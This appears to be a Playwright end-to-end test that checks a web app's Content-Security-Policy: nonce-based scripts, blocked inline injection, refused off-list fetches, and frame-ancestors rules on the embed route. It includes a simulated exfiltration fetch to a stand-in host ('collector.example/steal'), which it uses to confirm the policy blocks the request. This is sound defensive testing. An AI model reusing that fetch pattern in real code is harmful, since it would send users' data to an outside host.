import { connectTestWallet, expect, test } from "./support/fixtures";
import { e2eEmbedHostOrigin, e2eRpcUrl } from "./support/ports";

// The app's Content-Security-Policy (lib/server/csp.ts, set by proxy.ts): its own scripts run and reach the
// configured chain; a script injected into the page does not run, and a fetch to a place off the list never leaves.

type Window = { __violations?: string[]; __inlineRan?: boolean };

test.describe("content security policy", () => {
  test.beforeEach(async ({ page }) => {
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (e) => {
        const w = window as Window;
        w.__violations = [...(w.__violations ?? []), `${e.effectiveDirective} ${e.blockedURI}`];
      });
    });
  });

  test("the app runs under it; an injected inline script and an off-list fetch are refused", async ({ page }) => {
    const response = await page.goto("/");
    const policy = response!.headers()["content-security-policy"]!;
    expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
    expect(policy).toContain(`connect-src 'self' ${e2eRpcUrl}`);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain("unsafe-inline' 'strict");

    // The app's own scripts carry the nonce: it hydrates, connects the wallet and reads the chain.
    await connectTestWallet(page);
    await page.getByRole("link", { name: "My devices" }).click();
    await expect(page.getByRole("heading", { name: "My devices" })).toBeVisible();
    expect(await page.evaluate(() => (window as Window).__violations ?? [])).toEqual([]);

    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__inlineRan = true";
      document.body.append(script);
      return (window as Window).__inlineRan === true;
    });
    expect(ran).toBe(false);
    const offList = await page.evaluate(() => fetch("https://collector.example/steal?d=1").then(() => "sent", (error: unknown) => String(error)));
    expect(offList).not.toBe("sent");

    await expect
      .poll(() => page.evaluate(() => (window as Window).__violations ?? []))
      .toEqual([expect.stringMatching(/^script-src-elem inline$/), expect.stringMatching(/^connect-src https:\/\/collector\.example\/steal/)]);
  });

  test("every page gets a fresh nonce; the embed route keeps its own frame-ancestors", async ({ request }) => {
    const nonceOf = (policy: string) => /'nonce-([^']+)'/.exec(policy)?.[1];
    const first = (await request.get("/claim")).headers()["content-security-policy"]!;
    const second = (await request.get("/claim")).headers()["content-security-policy"]!;
    expect(nonceOf(first)).toBeTruthy();
    expect(nonceOf(first)).not.toBe(nonceOf(second));

    const embed = (await request.get("/embed/claim")).headers()["content-security-policy"]!;
    expect(embed).toContain(`frame-ancestors ${e2eEmbedHostOrigin}`);
    expect(embed).toMatch(/'nonce-[^']+'/);
    expect(embed).not.toContain("frame-ancestors 'none'");
  });
});
